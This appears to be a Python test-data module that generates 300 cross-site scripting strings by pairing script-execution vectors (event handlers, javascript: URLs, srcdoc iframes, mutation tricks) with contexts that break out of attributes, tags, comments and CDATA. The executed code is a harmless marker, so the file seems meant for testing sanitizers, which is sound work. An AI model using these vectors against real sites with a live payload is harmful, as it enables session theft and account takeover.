"""Three hundred hostile texts.

Ways to run a script, in the places and disguises in which they slip through.
"""

from itertools import product

_RUNS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<iframe src=javascript:{js}>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js} autofocus tabindex=1>x</a>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<math><mtext><mglyph><style><img src=x onerror={js}>",
    "<style>@import'javascript:{js}';</style>",
    "<link rel=stylesheet href=data:text/css,body{{}}>",
    "<meta http-equiv=refresh content=0;url=javascript:{js}>",
    "<base href=javascript:{js}//>",
    "<form action=javascript:{js}><button autofocus onfocus={js}>",
    "<template><img src=x onerror={js}></template><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<isindex onfocus={js} autofocus>",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "{{{{constructor.constructor('{js}')()}}}}",
)
_PLACES = (
    "{run}",
    '">{run}',
    "'>{run}",
    "</textarea>{run}",
    "</script>{run}",
    "</title></style>{run}",
    "--><!-- {run}",
    "]]>{run}",
    "\u202e{run}\u202c 名前",
    "＜script＞ ﹤x﹥ {run}\u0000"[:-1],
)
_JS = ("window.hit=1", "window.hit&#61;1", "top[`hit`]=1")


def payloads():
    """Return the texts, each once, the same in every run."""
    found = [
        place.format(run=run.format(js=_JS[(n + m) % 3]))
        for (n, run), (m, place) in product(enumerate(_RUNS), enumerate(_PLACES))
    ]
    assert len(set(found)) == 300
    return found
